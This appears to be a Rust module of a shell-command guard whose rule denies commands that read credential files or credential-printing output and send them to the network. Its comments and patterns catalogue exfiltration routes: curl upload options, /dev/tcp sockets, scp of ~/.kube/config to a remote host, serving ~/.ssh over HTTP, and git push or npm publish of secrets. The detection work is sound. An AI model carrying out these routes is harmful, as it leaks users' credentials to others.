//! `credential-exfiltration`: a credential file read and sent to a network
//! sink within one command.
//!
//! A taint walk over the commands: a command that reads a credential file
//! carries it; so does every command whose input, arguments, redirections
//! or environment hold a carrier's output (pipes, `$(…)`, `<(…)`, variables
//! and `read`, through the analysis's sources), and every command that reads
//! a file a carrier wrote earlier (a staged copy). A network sink that
//! carries a credential, or whose upload options name one, is a hard deny.
//! URL text is never a read: `curl https://x/.env` and `curl -d
//! template=.env.local` send no file.
//!
//! A credential is also what some commands print ([`super::producers`]:
//! `gh auth token`, `aws configure export-credentials`, `printenv`); their
//! output carries it like a file's contents, except to the service the
//! credential is for. Beside the network sinks: a server that publishes a
//! directory holding credentials (`python3 -m http.server` in `~/.ssh` or
//! home), a `git push` after `git add` of a credential, and `npm publish`
//! of a credential directory send them too. A key used locally for TLS
//! client authentication (`curl --key`, `wget --private-key`, `openssl
//! s_client -key`) and `curl --netrc-file` (curl sends a netrc entry only
//! to its own host) send nothing.

use super::HardRule;
use crate::credentials::{
    CREDENTIAL_DIRS, CREDENTIAL_SUFFIXES, PATTERN_SHAPES, is_credential_path,
};
use crate::shell::spec::{Network, Role};
use crate::shell::{Command, RedirectOp, Sources, Value};

use super::facts::Facts;
use super::paths::{Target, ends_with, is_within};
use super::{HardDeny, deny, net, producers};

fn credential(f: &mut Facts<'_>, target: &Target, tree: bool) -> bool {
    let direct = match target {
        Target::Exact(p) | Target::Partial(p) => is_credential_path(p),
        Target::Pattern(_) => PATTERN_SHAPES
            .iter()
            .chain(CREDENTIAL_SUFFIXES)
            .any(|s| ends_with(target, s)),
    };
    if direct {
        return true;
    }
    if !tree {
        return false;
    }
    if CREDENTIAL_DIRS.iter().any(|d| ends_with(target, d)) {
        return true;
    }
    let home = f.env.home.clone();
    CREDENTIAL_DIRS
        .iter()
        .any(|d| f.covers(target, &format!("{home}/{}", d.join("/"))))
}

/// Commands that print names (or digests: a hash of a key is not the
/// key) rather than contents.
fn names_only(cmd: &Command) -> bool {
    matches!(
        cmd.name(),
        Some(
            "md5sum"
                | "sha1sum"
                | "sha224sum"
                | "sha256sum"
                | "sha384sum"
                | "sha512sum"
                | "b2sum"
                | "cksum"
                | "echo"
                | "printf"
                | "ls"
                | "find"
                | "stat"
                | "realpath"
                | "readlink"
                | "basename"
                | "dirname"
                | "file"
                | "test"
                | "["
                | "wc"
        )
    )
}

/// Roles through which a command takes a file's contents (a move or a
/// link carries them to the new name too).
const READS: &[Role] = &[
    Role::Read,
    Role::ReadTree,
    Role::Upload,
    Role::MoveAway,
    Role::LinkTarget,
];

/// A file a carrier wrote, with the credential it copies.
struct Staged {
    path: String,
    /// `path` is a prefix of the names written (`split FILE PREFIX`).
    prefix: bool,
    credential: String,
    by: usize,
}

impl Staged {
    /// Could `target` name this staged file (or one of its pieces)?
    fn names(&self, target: &Target) -> bool {
        match target {
            Target::Exact(p) if self.prefix => p.starts_with(&self.path),
            Target::Exact(p) => is_within(p, &self.path),
            Target::Pattern(t) => {
                let probe = if self.prefix {
                    format!("{}aa", self.path)
                } else {
                    self.path.clone()
                };
                crate::shell::glob::path_may_match(t, &probe)
            }
            Target::Partial(_) => false,
        }
    }
}

/// The staged copy of a credential that `target` may name, written before
/// command `i`.
fn staged_at<'s>(staged: &'s [Staged], target: &Target, i: usize) -> Option<&'s Staged> {
    staged.iter().find(|s| s.by < i && s.names(target))
}

/// What makes command `i` carry a credential.
#[derive(Debug, Clone)]
struct Carry {
    /// What is carried, as the rationale says it: "file `~/.ssh/id_rsa`",
    /// "printed by `gh auth token`".
    credential: String,
    how: &'static str,
    /// The domains a printed credential is for ([`producers::Produced`]);
    /// empty for a file's contents.
    audience: &'static [&'static str],
}

fn file_carry(credential: String, how: &'static str) -> Carry {
    Carry {
        credential,
        how,
        audience: &[],
    }
}

fn direct_read(f: &mut Facts<'_>, i: usize, staged: &[Staged]) -> Option<Carry> {
    let cmd = f.command(i)?;
    if names_only(cmd) {
        return None;
    }
    let recursive = f
        .effects_of(i)
        .is_some_and(|e| e.has(crate::shell::spec::Modifier::Recursive));
    for touch in f.touches(i).iter() {
        if !READS.contains(&touch.role) {
            continue;
        }
        for target in &touch.targets {
            if let Some(s) = staged_at(staged, target, i) {
                return Some(file_carry(s.credential.clone(), "staged"));
            }
            if credential(f, target, touch.role == Role::ReadTree || recursive) {
                return Some(file_carry(format!("file `{}`", touch.value), "reads"));
            }
        }
    }
    producers::credential_output(f, i).map(|p| Carry {
        credential: format!("printed by {}", p.what),
        how: "produces",
        audience: p.audience,
    })
}

fn sources_of(cmd: &Command) -> Sources {
    let mut s = cmd.stdin_from.clone();
    for a in &cmd.argv {
        s.extend(&a.sources());
    }
    for r in &cmd.redirects {
        s.extend(&r.target.sources());
    }
    for (_, v) in &cmd.assignments {
        s.extend(&v.sources());
    }
    s
}

/// The carriers of every command, to a fixpoint.
fn carriers(f: &mut Facts<'_>) -> (Vec<Option<Carry>>, Vec<Staged>) {
    let n = f.analysis.commands.len();
    let mut carried: Vec<Option<Carry>> = vec![None; n];
    let mut staged: Vec<Staged> = Vec::new();
    for _ in 0..=n.min(256) {
        let mut changed = false;
        for i in 0..n {
            if carried.get(i).is_some_and(Option::is_some) {
                continue;
            }
            let mut found = direct_read(f, i, &staged);
            if found.is_none()
                && let Some(cmd) = f.command(i)
            {
                let sources = sources_of(cmd);
                found = sources.iter().find_map(|s| {
                    carried.get(s).cloned().flatten().map(|c| Carry {
                        credential: c.credential,
                        how: if cmd.stdin_from.contains(s) {
                            "pipe"
                        } else {
                            "substitution"
                        },
                        audience: c.audience,
                    })
                });
                // A wrapper's command carries what the wrapper carries, and
                // a wrapper prints what its command prints.
                if found.is_none()
                    && let Some(p) = cmd.parent
                {
                    found = carried.get(p).cloned().flatten().map(|c| Carry {
                        how: if c.how == "produces" { "pipe" } else { c.how },
                        ..c
                    });
                }
                if found.is_none() {
                    found = (0..n)
                        .filter(|&j| f.command(j).is_some_and(|c| c.parent == Some(i)))
                        .find_map(|j| carried.get(j).cloned().flatten())
                        .map(|c| Carry {
                            credential: c.credential,
                            how: "pipe",
                            audience: c.audience,
                        });
                }
            }
            if let Some(c) = found {
                stage_outputs(f, i, &c.credential, &mut staged);
                if let Some(slot) = carried.get_mut(i) {
                    *slot = Some(c);
                }
                changed = true;
            }
        }
        if !changed {
            break;
        }
    }
    (carried, staged)
}

/// Records what command `i`, which carries `credential`, writes: each file
/// it writes (and the prefix of `split`'s pieces) is a staged copy.
fn stage_outputs(f: &Facts<'_>, i: usize, credential: &str, staged: &mut Vec<Staged>) {
    for touch in f.touches(i).iter() {
        if !matches!(touch.role, Role::Write) {
            continue;
        }
        for target in &touch.targets {
            if let Target::Exact(p) = target
                && p != "/dev/null"
                && !staged.iter().any(|s| s.path == *p)
            {
                staged.push(Staged {
                    path: p.clone(),
                    prefix: false,
                    credential: credential.to_owned(),
                    by: i,
                });
            }
        }
    }
    if let Some(prefix) = split_prefix(f, i)
        && !staged.iter().any(|s| s.path == prefix)
    {
        staged.push(Staged {
            path: prefix,
            prefix: true,
            credential: credential.to_owned(),
            by: i,
        });
    }
}

/// Where `split`/`csplit` write the pieces of what they read: names that
/// start with PREFIX (the operand after the input, `x` by default; csplit's
/// `-f`, `xx` by default), in the command's directory.
fn split_prefix(f: &Facts<'_>, i: usize) -> Option<String> {
    let cmd = f.command(i)?;
    let name = cmd.name()?;
    if !matches!(name, "split" | "gsplit" | "csplit") {
        return None;
    }
    let args = cmd.args();
    let mut operands: Vec<&str> = Vec::new();
    let mut prefix_option: Option<&str> = None;
    let mut k = 0;
    while let Some(a) = args.get(k) {
        let w = a.as_known().unwrap_or("");
        if matches!(w, "-f" | "--prefix") {
            prefix_option = args.get(k + 1).and_then(|a| a.as_known());
            k += 2;
            continue;
        }
        if matches!(
            w,
            "-a" | "-b" | "-C" | "-l" | "-n" | "-t" | "--suffix-format"
        ) {
            k += 2;
            continue;
        }
        if !w.starts_with('-') || w == "-" {
            operands.push(w);
        }
        k += 1;
    }
    let prefix = if name == "csplit" {
        prefix_option.unwrap_or("xx")
    } else {
        operands.get(1).copied().unwrap_or("x")
    };
    let cwd = cmd.cwd.as_known()?;
    Some(if prefix.starts_with('/') {
        crate::shell::path::normalize(prefix)
    } else {
        crate::shell::path::join(cwd, prefix)
    })
}

/// A network sink: a client, stream or copy tool, or a `/dev/tcp` socket.
fn sink(f: &Facts<'_>, i: usize) -> Option<Network> {
    let cmd = f.command(i)?;
    let socket = cmd.redirects.iter().any(|r| {
        (r.op.writes() || r.op == RedirectOp::ReadWrite)
            && r.target.candidates().iter().any(|t| {
                let h = t.known_prefix();
                h.starts_with("/dev/tcp/") || h.starts_with("/dev/udp/")
            })
    });
    if socket {
        return Some(Network::Stream);
    }
    match f.effects_of(i)?.network {
        Network::None => None,
        other => Some(other),
    }
}

/// Files an upload option of command `i` sends: `-T f`, `-d @f`,
/// `-F k=@f`, `-H @f`, `--variable k@f`.
fn uploaded(f: &Facts<'_>, i: usize) -> Vec<(Value, &'static str)> {
    let Some(eff) = f.effects_of(i) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for (role, value) in &eff.items {
        let file = match role {
            Role::Upload => Some(value.clone()),
            Role::Data | Role::Header => {
                crate::shell::effects::after_prefix(value, "@").or_else(|| {
                    // `--data-urlencode name@file`.
                    value
                        .candidates()
                        .iter()
                        .any(|t| {
                            let h = t.known_prefix();
                            h.find('@')
                                .is_some_and(|at| h.find('=').is_none_or(|eq| at < eq))
                        })
                        .then(|| crate::shell::effects::after_marker(value, "@"))
                        .flatten()
                })
            }
            Role::FormData => crate::shell::effects::after_marker(value, "=@")
                .or_else(|| crate::shell::effects::after_marker(value, "=<"))
                .map(|v| trim_form_type(&v)),
            Role::Variable => crate::shell::effects::after_marker(value, "@"),
            _ => None,
        };
        if let Some(file) = file
            && file.as_known() != Some("-")
            && file.as_known() != Some("")
        {
            out.push((file, option_label(*role)));
        }
    }
    out
}

fn option_label(role: Role) -> &'static str {
    match role {
        Role::Upload => "an upload option",
        Role::Data => "a data option",
        Role::FormData => "a form field",
        Role::Header => "a header file",
        Role::Variable => "a variable file",
        _ => "an option",
    }
}

/// `file;type=text/plain`: the file name ends at `;`.
fn trim_form_type(v: &Value) -> Value {
    let candidates = v
        .candidates()
        .iter()
        .map(|t| match t.as_known() {
            Some(s) => crate::shell::Text::lit(s.split(';').next().unwrap_or("")),
            None => t.clone(),
        })
        .collect();
    Value::from_candidates(candidates).unwrap_or_else(|| v.clone())
}

/// The rule and the verb for a credential that reaches a network sink the
/// way `how` says.
fn carry_rule(how: &str) -> (HardRule, &'static str) {
    match how {
        "reads" => (HardRule::ExfilSinkReadsFile, "reads"),
        "staged" => (HardRule::ExfilStagedFile, "sends a staged copy of"),
        "pipe" => (HardRule::ExfilPipeToSink, "receives through a pipe"),
        _ => (
            HardRule::ExfilSubstitution,
            "receives through a substitution or variable",
        ),
    }
}

pub(super) fn check(f: &mut Facts<'_>) -> Option<HardDeny> {
    if let Some(d) = serves_credentials(f).or_else(|| publishes_credentials(f)) {
        return Some(d);
    }
    let n = f.analysis.commands.len();
    let sinks: Vec<(usize, Network)> = (0..n).filter_map(|i| sink(f, i).map(|s| (i, s))).collect();
    let pushes = (0..n).any(|i| git_subcommand(f, i).is_some_and(|(sub, _)| sub == "push"));
    if sinks.is_empty() && !pushes {
        return None;
    }
    let (carried, staged) = carriers(f);
    if pushes && let Some(d) = git_push_of_credentials(f, &staged) {
        return Some(d);
    }
    for (i, kind) in sinks {
        let Some(cmd) = f.command(i) else { continue };
        let name = cmd.name().unwrap_or("a socket").to_owned();
        let cwd = cmd.cwd.clone();
        if let Some(d) = netrc_to_redirects(f, i, &name) {
            return Some(d);
        }
        for (file, option) in uploaded(f, i) {
            for target in super::paths::resolve(&file, &cwd) {
                if let Some(s) = staged_at(&staged, &target, i) {
                    return deny(
                        HardRule::ExfilStagedFile,
                        format!(
                            "`{name}` uploads `{file}` ({option}), a staged copy of the credential {}",
                            s.credential
                        ),
                    );
                }
                if credential(f, &target, true) {
                    return deny(
                        HardRule::ExfilUploadOption,
                        format!("`{name}` uploads the credential file `{file}` ({option})"),
                    );
                }
            }
        }
        if kind == Network::RemoteCopy
            && let Some(d) = remote_copy(f, i, &name)
        {
            return Some(d);
        }
        let Some(Some(carry)) = carried.get(i) else {
            continue;
        };
        if kind == Network::RemoteCopy && carry.how == "reads" {
            // A copy tool reading a credential only exfiltrates to a remote
            // destination (checked above).
            continue;
        }
        if carry.how == "produces" {
            // The producer itself (`gh auth token`) prints the credential;
            // it does not send it anywhere but to its own service.
            continue;
        }
        if !carry.audience.is_empty() && sends_only_to(f, i, carry.audience) {
            // A token sent to the service it was minted for is its use.
            continue;
        }
        let (rule, how) = carry_rule(carry.how);
        return deny(
            rule,
            format!(
                "network sink `{name}` {how} the credential {}",
                carry.credential
            ),
        );
    }
    None
}
/// Does every URL of command `i` go to one of `audience`'s domains? Every
/// URL must be known; there must be at least one.
fn sends_only_to(f: &Facts<'_>, i: usize, audience: &[&str]) -> bool {
    let (urls, routed) = net::urls(f, i);
    !routed
        && !urls.is_empty()
        && urls.iter().all(|u| {
            // A `?` in a URL is a pattern that matches no file: bash
            // passes it as written.
            u.candidates().iter().all(|t| {
                t.unmatched_spelling()
                    .and_then(|u| net::url_host(&u))
                    .is_some_and(|h| producers::within(&h, audience))
            })
        })
}

/// `curl --netrc-file F --location-trusted`: curl sends a netrc entry only
/// to the host it names, except that `--location-trusted` hands the
/// credentials to whatever host a redirect leads to.
fn netrc_to_redirects(f: &mut Facts<'_>, i: usize, name: &str) -> Option<HardDeny> {
    use crate::shell::options::OptValue;
    if !matches!(name, "curl" | "curlie") {
        return None;
    }
    let cmd = f.command(i)?;
    let parsed = f.effects_of(i)?.parsed.as_ref()?;
    if !parsed.has(&["location-trusted"]) {
        return None;
    }
    let args = cmd.args();
    let mut files: Vec<Value> = parsed
        .values(&["netrc-file"])
        .into_iter()
        .filter_map(|v| match v {
            OptValue::Next { at } => match args.get(at) {
                Some(crate::shell::Arg::Field(v)) => Some(v.clone()),
                _ => None,
            },
            OptValue::Attached { at, offset } => args
                .get(at)
                .and_then(|a| a.as_known())
                .and_then(|t| t.get(offset..))
                .map(Value::known),
        })
        .collect();
    if parsed.has(&["n", "netrc", "netrc-optional"]) {
        files.push(Value::known(&format!("{}/.netrc", f.env.home)));
    }
    let cwd = cmd.cwd.clone();
    for file in files {
        for target in super::paths::resolve(&file, &cwd) {
            if credential(f, &target, false) {
                return deny(
                    HardRule::ExfilNetrcRedirect,
                    format!(
                        "`{name} --location-trusted` sends the credentials in `{}` to any host a redirect names",
                        target.display()
                    ),
                );
            }
        }
    }
    None
}

/// The value of the first of `opts` in `words` (the known spelling of
/// `args`): the next argument, or glued on with `=`.
fn option_value(args: &[crate::shell::Arg], words: &[&str], opts: &[&str]) -> Option<Value> {
    use crate::shell::Arg;
    words.iter().enumerate().find_map(|(k, w)| {
        opts.iter().find_map(|o| {
            if w == o {
                match args.get(k + 1) {
                    Some(Arg::Field(v)) => Some(v.clone()),
                    _ => None,
                }
            } else {
                w.strip_prefix(o)
                    .and_then(|r| r.strip_prefix('='))
                    .map(Value::known)
            }
        })
    })
}

/// Whether a listen address is loopback: `127.0.0.1`, `localhost:8000`,
/// `[::1]:8000`.
fn loopback_address(t: &str) -> bool {
    let host = match t.rsplit_once(':') {
        Some((h, p)) if !h.is_empty() && p.chars().all(|c| c.is_ascii_digit()) => h,
        _ => t,
    };
    net::is_loopback_host(host.trim_start_matches('[').trim_end_matches(']'))
}

/// The first operand from `first` on that is not an option or a port.
fn plain_operand_after(args: &[crate::shell::Arg], first: usize) -> Option<Value> {
    use crate::shell::Arg;
    args.iter().skip(first).find_map(|a| match a {
        Arg::Field(v)
            if !v
                .as_known()
                .is_some_and(|t| t.starts_with('-') || t.chars().all(|c| c.is_ascii_digit())) =>
        {
            Some(v.clone())
        }
        _ => None,
    })
}

/// The directory a command serves to the network, and whether it listens
/// on loopback only: `python3 -m http.server [-d DIR] [-b ADDR]`, `php -S
/// ADDR [-t DIR]`, `ruby -run -e httpd [DIR]`, `busybox httpd [-h DIR]`,
/// and the file servers of npm and cargo (`http-server`, `serve`,
/// `miniserve`, …). The directory is the working one unless named.
fn server_root(f: &Facts<'_>, i: usize) -> Option<(Value, bool)> {
    let cmd = f.command(i)?;
    let name = cmd.name()?;
    let args = cmd.args();
    let words: Vec<&str> = args.iter().map(|a| a.as_known().unwrap_or("")).collect();
    let value_of = |opts: &[&str]| option_value(args, &words, opts);
    let bound_to_loopback =
        |opts: &[&str]| value_of(opts).is_some_and(|v| v.as_known().is_some_and(loopback_address));
    let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let module = words
        .windows(2)
        .find(|w| w.first() == Some(&"-m"))
        .and_then(|w| w.get(1).copied());
    let operand_after = |first: usize| plain_operand_after(args, first);
    let cwd = || cmd.cwd.clone();
    match (base, module) {
        ("python", Some("http.server")) => Some((
            value_of(&["-d", "--directory"]).unwrap_or_else(cwd),
            bound_to_loopback(&["-b", "--bind"]),
        )),
        ("python", Some("SimpleHTTPServer")) => Some((cwd(), false)),
        ("php", _) if words.contains(&"-S") => Some((
            value_of(&["-t"]).unwrap_or_else(cwd),
            bound_to_loopback(&["-S"]),
        )),
        ("ruby", _) if words.contains(&"httpd") => {
            let at = words.iter().position(|w| *w == "httpd").unwrap_or(0);
            Some((
                operand_after(at + 1).unwrap_or_else(cwd),
                bound_to_loopback(&["-b", "--bind-address"]),
            ))
        }
        ("busybox" | "toybox", _) if words.contains(&"httpd") => {
            Some((value_of(&["-h"]).unwrap_or_else(cwd), false))
        }
        ("updog", _) => Some((value_of(&["-d", "--directory"]).unwrap_or_else(cwd), false)),
        ("http-server" | "serve" | "live-server" | "miniserve" | "darkhttpd", _) => Some((
            operand_after(0).unwrap_or_else(cwd),
            bound_to_loopback(&[
                "-a",
                "--address",
                "-i",
                "--interfaces",
                "--addr",
                "-l",
                "--listen",
            ]),
        )),
        _ => None,
    }
}

/// A server publishing a directory that holds credentials (home or above
/// it, or a credential directory: `cd ~/.ssh && python3 -m http.server`)
/// beyond loopback.
fn serves_credentials(f: &mut Facts<'_>) -> Option<HardDeny> {
    for i in 0..f.analysis.commands.len() {
        let Some((root, loopback)) = server_root(f, i) else {
            continue;
        };
        if loopback {
            continue;
        }
        let Some(cmd) = f.command(i) else { continue };
        let name = cmd.name().unwrap_or("").to_owned();
        let cwd = cmd.cwd.clone();
        for target in super::paths::resolve(&root, &cwd) {
            if credential(f, &target, true) {
                return deny(
                    HardRule::ExfilServesCredentials,
                    format!(
                        "`{name}` serves `{}`, which holds credentials, to the network",
                        target.display()
                    ),
                );
            }
        }
    }
    None
}

/// `npm publish [DIR]` (also pnpm, yarn) of a directory holding
/// credentials: the registry makes it public.
fn publishes_credentials(f: &mut Facts<'_>) -> Option<HardDeny> {
    use crate::shell::Arg;
    for i in 0..f.analysis.commands.len() {
        let Some(cmd) = f.command(i) else { continue };
        let Some(name) = cmd.name() else { continue };
        if !matches!(name, "npm" | "pnpm" | "yarn") {
            continue;
        }
        let args = cmd.args();
        let Some(at) = args.iter().position(|a| a.as_known() == Some("publish")) else {
            continue;
        };
        let dir = args
            .iter()
            .skip(at + 1)
            .find_map(|a| match a {
                Arg::Field(v) if !v.as_known().is_some_and(|t| t.starts_with('-')) => {
                    Some(v.clone())
                }
                _ => None,
            })
            .unwrap_or_else(|| cmd.cwd.clone());
        let name = name.to_owned();
        let cwd = cmd.cwd.clone();
        for target in super::paths::resolve(&dir, &cwd) {
            if credential(f, &target, true) {
                return deny(
                    HardRule::ExfilPublishesCredentials,
                    format!(
                        "`{name} publish` of `{}` publishes the credentials in it",
                        target.display()
                    ),
                );
            }
        }
    }
    None
}

/// git's subcommand and the arguments after it (global options skipped).
fn git_subcommand<'a>(f: &Facts<'a>, i: usize) -> Option<(&'a str, &'a [crate::shell::Arg])> {
    let cmd = f.command(i)?;
    if cmd.name()? != "git" {
        return None;
    }
    let args = cmd.args();
    let mut k = 0;
    while let Some(a) = args.get(k) {
        let w = a.as_known()?;
        if matches!(w, "-C" | "-c" | "--git-dir" | "--work-tree" | "--namespace") {
            k += 2;
        } else if w.starts_with('-') {
            k += 1;
        } else {
            return Some((w, args.get(k + 1..).unwrap_or(&[])));
        }
    }
    None
}

/// `git add` (or `git stage`, `git commit -a`) of a credential — a file by
/// its name or a copy the command staged in the work tree — and a `git
/// push` after it: the credential goes to the remote.
fn git_push_of_credentials(f: &mut Facts<'_>, staged: &[Staged]) -> Option<HardDeny> {
    use crate::shell::Arg;
    let mut added: Option<String> = None;
    for i in 0..f.analysis.commands.len() {
        let Some((sub, rest)) = git_subcommand(f, i) else {
            continue;
        };
        let Some(cmd) = f.command(i) else { continue };
        let cwd = cmd.cwd.clone();
        match sub {
            "add" | "stage" | "commit" => {
                let whole_tree = rest.iter().any(|a| {
                    matches!(
                        a.as_known(),
                        Some("-A" | "--all" | "." | "-a" | "-am" | "-u" | ":/")
                    )
                });
                for a in rest {
                    let Arg::Field(v) = a else { continue };
                    if v.as_known().is_some_and(|t| t.starts_with('-')) {
                        continue;
                    }
                    for target in super::paths::resolve(v, &cwd) {
                        if let Some(s) = staged_at(staged, &target, i) {
                            added = Some(s.credential.clone());
                        } else if sub != "commit" && credential(f, &target, false) {
                            added = Some(format!("file `{v}`"));
                        }
                    }
                }
                if whole_tree
                    && added.is_none()
                    && let Some(dir) = cwd.as_known()
                    && let Some(s) = staged.iter().find(|s| s.by < i && is_within(&s.path, dir))
                {
                    added = Some(s.credential.clone());
                }
            }
            "push" => {
                if let Some(what) = &added {
                    return deny(
                        HardRule::ExfilGitPush,
                        format!("`git push` sends the committed credential {what} to the remote"),
                    );
                }
            }
            _ => {}
        }
    }
    None
}

/// `scp ~/.kube/config host:/tmp/`: a credential source with a remote
/// destination.
fn remote_copy(f: &mut Facts<'_>, i: usize, name: &str) -> Option<HardDeny> {
    // `rsync -n`/`--dry-run` lists what it would send and sends nothing.
    if name == "rsync"
        && f.effects_of(i)
            .and_then(|e| e.parsed.as_ref())
            .is_some_and(|p| p.has(&["n", "dry-run"]))
    {
        return None;
    }
    let touches = f.touches(i);
    let dest = touches.iter().find(|t| t.role == Role::Write)?;
    if !net::is_remote_operand(&dest.value) {
        return None;
    }
    for touch in touches
        .iter()
        .filter(|t| matches!(t.role, Role::ReadTree | Role::Read))
    {
        if net::is_remote_operand(&touch.value) {
            continue;
        }
        for target in &touch.targets {
            if credential(f, target, true) {
                return deny(
                    HardRule::ExfilRemoteCopy,
                    format!(
                        "`{name}` copies the credential file `{}` to `{}`",
                        touch.value, dest.value
                    ),
                );
            }
        }
    }
    None
}
